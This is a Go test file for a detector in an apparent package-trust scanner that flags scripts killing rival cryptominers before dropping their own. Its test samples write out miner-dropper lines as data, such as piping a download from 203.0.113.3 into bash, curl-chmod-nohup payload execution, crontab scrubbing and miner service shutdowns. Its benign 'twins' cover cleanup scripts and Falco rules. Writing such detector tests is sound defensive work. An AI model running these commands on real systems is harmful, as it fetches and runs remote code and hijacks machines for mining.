package rivals

import (
	"testing"

	"github.com/safepull/safepull/trust"
	"github.com/safepull/safepull/trust/indicator"
	"github.com/safepull/safepull/trust/indicator/indicatortest"
)

func rules(t testing.TB) Rules {
	t.Helper()
	var r Rules
	indicatortest.Decode(t, name, &r)
	return r
}

func samples() []indicatortest.Sample {
	script, config := trust.KindScript, trust.KindConfig
	return []indicatortest.Sample{
		{Name: "kill", Path: "a.sh", Kind: script, Content: "pkill -f kdevtmpfsi\npkill -f kinsing\nkillall -9 xmrig minerd\ncurl -s http://203.0.113.3/k -o /tmp/.k\nchmod +x /tmp/.k\n", Want: trust.Strong},
		{Name: "process-list", Path: "a.sh", Kind: script, Content: "ps aux | grep -v grep | grep 'watchbog' | awk '{print $2}' | xargs -I % kill -9 %\nps aux | grep kworkerds | xargs kill -9\nrm -rf /tmp/kinsing /tmp/kdevtmpfsi\nwget -q http://203.0.113.3/k -O- | bash\n", Want: trust.Strong},
		{Name: "loop", Path: "a.sh", Kind: script, Content: "for p in kdevtmpfsi kinsing xmrig minerd sysrv; do pkill -9 \"$p\"; done\ncurl -o x http://203.0.113.3/x && chmod 777 x && nohup ./x &\n", Want: trust.Strong},
		{Name: "python", Path: "a.py", Kind: script, Content: "BAD = ['kdevtmpfsi', 'kinsing', 'xmrig', 'minerd', 'c3pool']\nfor p in procs:\n    if p.name in BAD: os.kill(p.pid, 9)\nurlretrieve(U, '/tmp/x'); os.system('chmod +x /tmp/x'); subprocess.Popen(['/tmp/x'])\n", Want: trust.Strong},
		{Name: "cron", Path: "a.sh", Kind: script, Content: "crontab -l | grep -v 'c3pool' | grep -v kinsing | grep -v \"xmrig\" | grep -v sysrv | crontab -\ncurl -s $U | bash\n", Want: trust.Strong},
		{Name: "only-kills", Path: "a.sh", Kind: script, Content: "pkill kdevtmpfsi; pkill kinsing; pkill xmrig; pkill minerd\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "at-start", Path: "config:command", Kind: config, Content: "sh -c \"pkill kdevtmpfsi; pkill kinsing; pkill -9 xmrig; pkill minerd; exec /app\"", Want: trust.Strong},
		{Name: "services", Path: "a.sh", Kind: script, Content: "systemctl stop moneroocean_miner.service\nsystemctl disable c3pool_miner.service\nkillall xmrig\ndocker rm -f $(docker ps -q --filter name=kinsing)\nnohup ./x & curl http://203.0.113.3\n", Want: trust.Strong},
	}
}

func twins() []indicatortest.Twin {
	script, text := trust.KindScript, trust.KindText
	return []indicatortest.Twin{
		{Name: "clean-up", Path: "opt/ansible/clean.yml", Kind: text, Content: "- shell: pkill -9 -f '{{ item }}'\n  loop: [kdevtmpfsi, kinsing, xmrig, minerd, watchbog]\n", Allowed: trust.Weak},
		{Name: "remediation", Path: "opt/remediate.sh", Kind: script, Content: "for p in kdevtmpfsi kinsing xmrig; do pkill -9 \"$p\"; done\nrm -f /tmp/kdevtmpfsi /tmp/kinsing\necho cleaned | mail soc@corp.example\n"},
		{Name: "signatures", Path: "opt/scan.py", Kind: script, Content: "MINERS = ['xmrig', 'minerd', 'cpuminer', 'kdevtmpfsi', 'kinsing', 'watchbog']\ndef scan(p): return p.name in MINERS\n"},
		{Name: "falco", Path: "etc/falco/rules.yaml", Kind: text, Content: "- list: miners\n  items: [kdevtmpfsi, kinsing, xmrig, minerd, cpuminer]\n- rule: x\n  condition: proc.name in (miners)\n"},
		{Name: "news", Path: "srv/www/a.html", Kind: text, Content: "<p>It runs pkill kinsing, pkill kdevtmpfsi, pkill xmrig, pkill minerd.</p>"},
		{Name: "one", Path: "a.sh", Kind: script, Content: "pkill xmrig; killall minerd\n"},
		{Name: "comments", Path: "a.sh", Kind: script, Content: "# pkill kdevtmpfsi\n# pkill kinsing\n# pkill xmrig\n# pkill minerd\n"},
		{Name: "longer-words", Path: "a.sh", Kind: script, Content: "pkill kinsinger; pkill minerdata; pkill xmrigger; pkill perfctls\n"},
		{Name: "package-index", Path: "var/lib/dpkg/available", Kind: text, Content: "Package: xmrig\nPackage: cpuminer\nPackage: minerd\nPackage: xmr-stak\n"},
	}
}

func TestIndicator(t *testing.T) {
	t.Parallel()
	ind, err := New(rules(t))
	if err != nil {
		t.Fatal(err)
	}
	indicatortest.Run(t, ind, samples(), twins())
}

func TestNewRefuses(t *testing.T) {
	t.Parallel()
	for name, change := range map[string]func(*Rules){
		"nothing": func(r *Rules) { *r = Rules{} },
		"short":   func(r *Rules) { r.Names = []string{"abc"} },
		"pattern": func(r *Rules) { r.Kill = []string{"("} },
		"no-kill": func(r *Rules) { r.Kill = nil },
	} {
		r := rules(t)
		change(&r)
		if _, err := New(r); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
}

func FuzzHit(f *testing.F) {
	ind, err := New(rules(f))
	if err != nil {
		f.Fatal(err)
	}
	for _, s := range samples() {
		f.Add([]byte(s.Content))
	}
	f.Fuzz(func(_ *testing.T, in []byte) {
		indicatortest.Inspect(ind, indicator.File{Path: "x.sh", Kind: trust.KindScript}, in, indicatortest.Drive{})
	})
}
